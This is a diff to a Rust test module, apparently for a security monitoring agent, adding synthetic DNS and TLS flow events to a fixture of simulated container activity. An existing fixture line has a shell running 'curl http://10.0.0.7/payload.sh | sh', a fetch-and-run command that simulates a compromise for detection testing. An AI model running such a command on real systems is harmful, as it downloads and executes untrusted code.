@@ -233,6 +233,31 @@ pub(crate) mod tests {
             exec(310, 300, "/usr/sbin/nginx", &["nginx: worker process"], Some(&web)),
             exec(320, 300, "/bin/sh", &["sh", "-c", "curl http://10.0.0.7/payload.sh | sh"], Some(&web)),
             exec(900, 1, "/usr/bin/bash", &["bash"], None),
+            WireEvent::Dns {
+                v: crate::agent::wire::WIRE_VERSION,
+                node: "node-1".into(),
+                server: "10.96.0.10".parse().expect("address"),
+                answer: crate::agent::dns::DnsAnswer {
+                    query: "api.payments.example".into(),
+                    rcode: "NoError".into(),
+                    addresses: vec!["192.0.2.7".parse().expect("address")],
+                    cnames: Vec::new(),
+                },
+                container: Some(web.clone()),
+            },
+            WireEvent::Flow {
+                v: crate::agent::wire::WIRE_VERSION,
+                node: "node-1".into(),
+                flow: crate::agent::flows::FlowSeen {
+                    way: crate::agent::flows::Way::Sent,
+                    local: ("10.88.0.5".parse().expect("address"), 40112),
+                    remote: ("192.0.2.7".parse().expect("address"), 443),
+                    by: crate::agent::protocols::Direction::Client,
+                    protocol: crate::agent::protocols::Protocol::Tls { sni: Some("api.payments.example".into()) },
+                },
+                container: Some(web.clone()),
+                folded: 0,
+            },
             WireEvent::stats(
                 "node-1",
                 AgentStats {
